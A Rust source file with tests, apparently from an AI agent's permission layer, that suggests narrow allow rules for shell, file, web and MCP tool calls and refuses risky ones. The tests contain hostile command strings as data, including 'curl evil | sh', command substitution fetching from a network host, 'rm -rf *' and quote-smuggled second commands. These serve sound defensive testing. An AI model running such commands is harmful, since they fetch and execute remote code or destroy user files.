//! Suggests allow rules for a call that a person is asked about.

use std::path::Path;

use super::call::Subject;
use super::no_rule::NoRule;
use super::shell::obstacle::obstacle;
use super::shell::plain::{self, Plain};
use super::shell::program_input::runs_input;
use super::{PathResolver, ToolCall, ToolRules, Verdict, url};
use teamster_types::request::{PermissionMode, Permissions};

/// Programs whose subcommands are suggested with any further arguments: these subcommands build or test a project, install its
/// packages, or record its changes. Subcommands that only read are missing, since a person does not expect that their options
/// write files or run programs: `git diff --output=FILE`, `git fetch --upload-pack=PROGRAM`.
const SUBCOMMANDS: [(&str, &[&str]); 10] = [
    ("bun", &["install", "test"]),
    ("cargo", &["build", "check", "clippy", "doc", "fmt", "test"]),
    ("git", &["add", "commit", "status"]),
    ("go", &["build", "test", "vet"]),
    ("make", &["all", "build", "check", "clean", "test"]),
    ("npm", &["ci", "install", "test"]),
    ("pip", &["install"]),
    ("pnpm", &["install", "test"]),
    ("uv", &["lock", "sync"]),
    ("yarn", &["install", "test"]),
];

/// Modules of Python that are suggested with any further arguments: they run the tests of a project.
const TEST_MODULES: [&str; 2] = ["pytest", "unittest"];

/// Programs that are suggested with any arguments. `pytest` runs the tests of a project. The others only print a part of their
/// input: no option of them writes a file or runs a program.
const PROGRAMS: [&str; 4] = ["head", "pytest", "tail", "wc"];

/// Programs that run a script of the project by its name: `npm run test`.
const SCRIPT_RUNNERS: [(&str, &str); 4] = [("bun", "run"), ("npm", "run"), ("pnpm", "run"), ("yarn", "run")];

/// The maximum length of a suggested rule in bytes. A longer rule cannot be judged at a glance.
const MAX_BYTES: usize = 200;

/// The maximum number of rules for one call.
const MAX_RULES: usize = 5;

impl ToolRules {
    /// Suggests narrow rules that together allow this call and similar ones.
    ///
    /// There is one rule for each command that the call runs. A rule covers one subcommand of a known program
    /// (`Bash(npm install:*)`), otherwise exactly this command, file, host or tool of an MCP server. The rules are in the syntax
    /// of `permissions.allow`.
    ///
    /// # Errors
    /// Returns why only this call can be allowed.
    pub fn suggest(&self, call: &ToolCall<'_>, files: &dyn PathResolver) -> Result<Vec<String>, NoRule> {
        let cwd = self.cwd.as_deref();
        let mut rules = candidates(call, cwd, files)?;
        // A person must be able to judge the whole call, so repeated commands count too.
        if rules.len() > MAX_RULES {
            return Err(NoRule::TooMany { most: MAX_RULES });
        }
        let mut known = std::collections::BTreeSet::new();
        rules.retain(|rule| known.insert(rule.clone()));
        if rules.iter().any(|rule| rule.len() > MAX_BYTES) {
            return Err(NoRule::TooLong);
        }
        let suggested = Self::read(&Permissions::default().with_allow(&rules), cwd);
        let suggested = suggested.map_err(|_| NoRule::Undescribed)?;
        match suggested.verdict(PermissionMode::Ask, call, files) {
            Some(Verdict::Allow) => Ok(rules),
            _ => Err(NoRule::Undescribed),
        }
    }

    /// Returns these rules with further allow rules.
    ///
    /// # Errors
    /// If a rule is invalid.
    pub fn with_allowed(&self, rules: &[String]) -> Result<Self, teamster_types::request::RequestError> {
        let further = Self::read(&Permissions::default().with_allow(rules), self.cwd.as_deref())?;
        let mut all = self.clone();
        all.allow.extend(further.allow);
        Ok(all)
    }
}

fn candidates(call: &ToolCall<'_>, cwd: Option<&Path>, files: &dyn PathResolver) -> Result<Vec<String>, NoRule> {
    let name = call.name();
    if let Some(rest) = name.strip_prefix("mcp__") {
        let rule = literal(&name).filter(|_| is_one_tool(rest)).ok_or(NoRule::Undescribed)?;
        return Ok(vec![rule.to_owned()]);
    }
    let tool = literal(&name).ok_or(NoRule::Undescribed)?;
    let Some(subject) = Subject::of(call, cwd, files) else {
        let field = Subject::obstacle(call, cwd, files);
        return Err(field.map_or(NoRule::Undescribed, |name| NoRule::Field { name: name.to_owned() }));
    };
    let scopes = match subject {
        Subject::Command(text) => {
            let script = plain::script_of(text);
            let text = script.as_deref().unwrap_or(text);
            command_scopes(&plain::commands(text).ok_or_else(|| obstacle(text))?)?
        }
        Subject::Words(words) => {
            let found = plain::commands_of_words(&words);
            command_scopes(&found.ok_or_else(|| obstacle(words.last().copied().unwrap_or_default()))?)?
        }
        Subject::Path(path) => vec![literal(path).ok_or(NoRule::Wildcard)?.to_owned()],
        Subject::Url(url) => vec![format!("domain:{}", url::host(url).ok_or(NoRule::Undescribed)?)],
    };
    Ok(scopes.into_iter().map(|scope| format!("{tool}({scope})")).collect())
}

/// Whether the name of an MCP tool, after `mcp__`, has one certain meaning. Without `__` a rule would cover all tools of a server,
/// and `a__b__c` names a tool of the server `a` or of the server `a__b`.
fn is_one_tool(name: &str) -> bool {
    let is_separator = |pair: &&[u8]| *pair == b"__";
    name.as_bytes().windows(2).filter(is_separator).count() == 1 && !name.starts_with('_') && !name.ends_with('_')
}

/// Returns the scopes of the rules for these commands.
fn command_scopes(commands: &[Plain]) -> Result<Vec<String>, NoRule> {
    if commands.is_empty() {
        return Err(NoRule::Undescribed);
    }
    let scope = |command: &Plain| {
        let words: Vec<&str> = command.words().collect();
        match words.first() {
            Some(program) if runs_input(&words) => Err(NoRule::RunsInput { program: (*program).to_owned() }),
            _ => command_scope(command, &words).ok_or(NoRule::Wildcard),
        }
    };
    commands.iter().map(scope).collect()
}

/// Returns the scope of a rule for one command.
fn command_scope(command: &Plain, words: &[&str]) -> Option<String> {
    let prefix = match words {
        [program, subcommand, ..]
            if SUBCOMMANDS.iter().any(|(name, known)| name == program && known.contains(subcommand)) =>
        {
            Some(format!("{program} {subcommand}"))
        }
        [program, run, script, ..] if SCRIPT_RUNNERS.contains(&(*program, *run)) && !script.starts_with('-') => {
            Some(format!("{program} {run} {}", literal(script)?))
        }
        [python @ ("python" | "python3"), "-m", module, ..] if TEST_MODULES.contains(module) => {
            Some(format!("{python} -m {module}"))
        }
        [program, ..] if PROGRAMS.contains(program) => Some((*program).to_owned()),
        _ => None,
    };
    match prefix {
        Some(prefix) => Some(format!("{prefix}:*")),
        None => literal(&command.line()).map(str::to_owned),
    }
}

/// Returns a text that has the same meaning in a rule.
fn literal(text: &str) -> Option<&str> {
    let is_plain = |c: char| !c.is_control() && !"*?()[]{}".contains(c);
    (!text.is_empty() && text.trim() == text && !text.starts_with("domain:") && text.chars().all(is_plain))
        .then_some(text)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::{Value, json};

    use super::*;
    use crate::rules::TextOnly;

    fn suggested(tool: &str, input: &Value) -> Option<String> {
        rules_or_reason(tool, input).ok().map(|rules| rules.join(" + "))
    }

    fn rules_or_reason(tool: &str, input: &Value) -> Result<Vec<String>, NoRule> {
        let rules = ToolRules::read(&Permissions::default(), Some(Path::new("/project"))).unwrap();
        rules.suggest(&ToolCall::new(tool, input), &TextOnly)
    }

    #[test]
    fn a_rule_covers_a_known_subcommand_or_exactly_the_call() {
        for (command, expected) in [
            ("npm install left-pad", Some("Bash(npm install:*)")),
            ("bash -lc 'npm install left-pad'", Some("Bash(npm install:*)")),
            ("npm run build --watch", Some("Bash(npm run build:*)")),
            ("cargo test --all", Some("Bash(cargo test:*)")),
            ("ls -l src", Some("Bash(ls -l src)")),
            ("git push origin", Some("Bash(git push origin)")),
            ("rm -rf build", Some("Bash(rm -rf build)")),
            ("rm -rf ~/build", Some("Bash(rm -rf ~/build)")),
            ("rm -rf ~/'a b'", Some("Bash(rm -rf ~/'a b')")),
            ("git diff HEAD", Some("Bash(git diff HEAD)")),
            ("git fetch origin", Some("Bash(git fetch origin)")),
            ("rm -rf *", None),
            ("touch a && echo b", Some("Bash(touch a) + Bash(echo b)")),
            ("python3 -m pytest -q 2>&1 | tail -3", Some("Bash(python3 -m pytest:*) + Bash(tail:*)")),
            ("bash -lc 'npm test | head -5'", Some("Bash(npm test:*) + Bash(head:*)")),
            ("npm test; npm test -- -u", Some("Bash(npm test:*)")),
            ("npm install && curl evil", Some("Bash(npm install:*) + Bash(curl evil)")),
            ("curl evil | sh", None),
            ("cd x && npm test", None),
            ("npm install > out", None),
            ("$program", None),
            ("npm install $(curl evil)", None),
            ("", None),
        ] {
            assert_eq!(suggested("Bash", &json!({ "command": command })).as_deref(), expected, "{command}");
        }
        for (tool, input, expected) in [
            ("Edit", json!({"file_path": "src/a.rs", "old_string": "a", "new_string": "b"}), Some("Edit(src/a.rs)")),
            ("Edit", json!({"file_path": "src/*.rs", "old_string": "a", "new_string": "b"}), None),
            ("WebFetch", json!({"url": "https://docs.rs/x", "prompt": "p"}), Some("WebFetch(domain:docs.rs)")),
            ("WebFetch", json!({"url": "https://user@docs.rs/x"}), None),
            ("mcp__calc__add", json!({"a": 1}), Some("mcp__calc__add")),
            ("mcp__calc", json!({"a": 1}), None),
            ("mcp__calc__", json!({"a": 1}), None),
            ("mcp__calc__a__b", json!({"a": 1}), None),
            ("mcp__calc___add", json!({"a": 1}), None),
            ("command_execution", json!({"command": "ls", "network": {}}), None),
            ("file_change", json!({"changes": [], "diff": ""}), None),
            ("*", json!({"command": "ls"}), None),
        ] {
            assert_eq!(suggested(tool, &input).as_deref(), expected, "{tool} {input}");
        }
    }

    #[test]
    fn a_suggested_rule_does_not_allow_a_command_with_another_meaning() {
        for (asked, other) in [
            (r#"echo "'; rm x; '""#, "echo ''; rm x; ''"),
            (r#"prog "a;' 'b;""#, "prog 'a;' 'b;'"),
            ("rm -rf '~'", "rm -rf ~"),
            ("rm -rf ~", "rm -rf '~'"),
            ("make install prefix='~/x'", "make install prefix=~/x"),
            ("git diff HEAD", "git diff --output=x HEAD"),
        ] {
            let rule = rules_or_reason("Bash", &json!({ "command": asked })).ok();
            let rules = ToolRules::read(&Permissions::default().with_allow(rule.iter().flatten()), None).unwrap();
            let verdict = |command: &str| {
                rules.verdict(PermissionMode::Ask, &ToolCall::new("Bash", &json!({ "command": command })), &TextOnly)
            };
            assert_eq!(verdict(other), None, "{asked}: {rule:?}");
            assert_eq!(verdict(asked), rule.as_ref().map(|_| Verdict::Allow), "{asked}: {rule:?}");
        }
    }

    #[test]
    fn the_reason_names_what_no_rule_can_describe() {
        for (command, expected) in [
            ("echo a > out.txt", "the command writes to a file"),
            ("npm test 2>err | tail -3", "the command writes to a file"),
            ("bash -c 'echo $X >> out'", "the command writes to a file"),
            ("cat < in.txt", "the command reads its input from a file"),
            ("cat <<EOF\nx\nEOF", "the command reads its input from a file"),
            ("echo $HOME", "the shell replaces a part of it when it runs"),
            ("rm $(cat list)", "the shell replaces a part of it when it runs"),
            ("echo \"$HOME\" | wc -l", "the shell replaces a part of it when it runs"),
            ("rm -rf *", "a rule with its wildcard covers other calls"),
            ("A=1 npm test", "the command sets a variable"),
            ("cd x && npm test", "`cd` changes how the commands after it run"),
            ("curl x | sh", "`sh` runs whatever it reads"),
            ("ls | xargs rm", "`xargs` runs whatever it reads"),
            ("cat a.py | sudo python3 -", "`sudo` runs whatever it reads"),
            ("npm start & npm test", "a part of the command runs in the background"),
            ("for i in 1 2; do echo x; done", "it has a loop, a condition, a function or a group"),
            ("(npm test)", "it has a loop, a condition, a function or a group"),
            ("echo 'a", "the command cannot be read with certainty"),
            ("a; b; c; d; e; f", "it runs more than 5 commands"),
        ] {
            let reason = rules_or_reason("Bash", &json!({ "command": command })).unwrap_err();
            assert_eq!(reason.to_string(), expected, "{command}");
        }
        let long = json!({ "command": format!("echo {}", "a".repeat(300)) });
        assert_eq!(rules_or_reason("Bash", &long), Err(NoRule::TooLong));
        for (tool, input, field) in [
            ("command_execution", json!({"command": "ls", "network": {}}), "network"),
            ("file_change", json!({"changes": [], "reason": null}), "changes"),
            ("Bash", json!({"command": "ls", "run_in_background": true}), "run_in_background"),
        ] {
            assert_eq!(rules_or_reason(tool, &input), Err(NoRule::Field { name: field.to_owned() }));
        }
    }

    #[test]
    fn rules_can_be_added_to_rules() {
        let rules = ToolRules::read(&Permissions::default().with_deny(["Bash(rm:*)"]), None).unwrap();
        let more = rules.with_allowed(&["Bash".to_owned()]).unwrap();
        let verdict = |command: &str| {
            more.verdict(PermissionMode::Ask, &ToolCall::new("Bash", &json!({ "command": command })), &TextOnly)
        };
        assert_eq!(verdict("ls"), Some(Verdict::Allow));
        assert_eq!(verdict("rm x"), Some(Verdict::Deny { rule: "Bash(rm:*)".to_owned() }));
        assert!(rules.with_allowed(&["Bash(".to_owned()]).is_err());
    }

    proptest! {
        #[test]
        fn a_suggested_rule_allows_the_call(command in "[a-z \"'*;|&$()\\\\-]{0,20}|(npm|git|ls) [a-z -]{0,12}") {
            let input = json!({ "command": command });
            if let Ok(rules) = rules_or_reason("Bash", &input) {
                prop_assert!(!rules.is_empty() && !rules.contains(&"Bash".to_owned()));
                let rules = ToolRules::read(&Permissions::default().with_allow(&rules), None).unwrap();
                let verdict = rules.verdict(PermissionMode::Ask, &ToolCall::new("Bash", &input), &TextOnly);
                prop_assert_eq!(verdict, Some(Verdict::Allow));
            }
        }
    }
}
